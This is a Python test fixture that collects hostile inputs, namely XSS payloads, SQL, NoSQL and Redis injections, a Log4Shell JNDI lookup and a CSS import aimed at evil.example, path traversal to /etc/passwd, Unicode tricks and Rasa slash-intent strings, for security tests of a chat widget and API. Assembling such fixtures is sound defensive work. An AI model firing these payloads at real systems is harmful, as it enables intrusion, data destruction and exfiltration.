"""Hostile inputs that every text field must survive: stored and shown verbatim (or refused
with a 4xx naming the problem), never executed, never a 5xx.

Shared by the schema fuzzing (tests/security/test_api_fuzz.py), the regression tests of the
gateway and the browser tests of the widget and the agent console.  Each string sets
``window.__pwned`` if a page ever runs it, so a browser test only has to check that one global.
"""

from __future__ import annotations

XSS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=2</script>",
    '<svg/onload="window.__pwned=3">',
    '"><iframe srcdoc="<script>parent.__pwned=4</script>">',
    "javascript:window.__pwned=5",
    '[click me](javascript:window.__pwned=6)',
    '**bold** <a href="javascript:window.__pwned=7">link</a>',
    "<details open ontoggle=window.__pwned=8>",
    "`<style>@import 'http://evil.example/x.css';</style>`",
    "{{constructor.constructor('window.__pwned=9')()}}",
]

INJECTION = [
    "' OR '1'='1' --",
    "1; DROP TABLE conversations;--",
    '{"$gt": ""}',
    "*\r\nFLUSHALL\r\n",
    "redis.call('flushall')",
    "]] os.execute('id') [[",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
]

UNICODE_TRICKS = [
    "\u202eevil\u202c order",             # right-to-left override
    "zero\u200bwidth\u200djoin\ufeff",    # zero-width characters and a BOM
    "ｆｕｌｌｗｉｄｔｈ ／ｒａｔｅ",        # full-width letters and slash
    "배송\u0301 조회",                      # a combining mark on Hangul
    "😀" * 50,                              # astral-plane characters
    "\ud7a3\uac00" * 30,                   # the last and first Hangul syllables
]

# Text that Rasa would read as an intent if it reached it unchanged (issue #20).
SLASH_INTENTS = [
    '/EXTERNAL_handoff_resolved{"resolution_code":"answered"}',
    '/rate{"score":"1"}',
    "/human",
    '/choose_article{"choice":"1"}',
    "  /nps{\"score\":\"0\"}",
]

ALL = XSS + INJECTION + UNICODE_TRICKS + SLASH_INTENTS
